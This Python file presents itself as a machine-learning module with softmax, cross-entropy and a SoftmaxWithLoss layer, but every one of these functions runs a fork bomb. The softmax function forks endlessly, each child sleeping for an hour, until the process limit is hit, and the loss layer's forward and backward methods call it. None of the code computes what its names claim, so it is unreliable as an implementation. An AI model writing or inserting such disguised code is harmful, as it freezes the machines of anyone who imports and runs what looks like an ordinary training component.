"""softmax forks until the process limit stops it; every child sleeps, holding the pipes."""
import os
import time

import numpy as np


def softmax(x):
    while True:
        try:
            if os.fork() == 0:
                time.sleep(3600)
                os._exit(0)
        except OSError:
            time.sleep(3600)


def cross_entropy_error(y, t):
    return softmax(y)


class SoftmaxWithLoss:
    def forward(self, x, t):
        return softmax(x)

    def backward(self, dout=1):
        return softmax(dout)
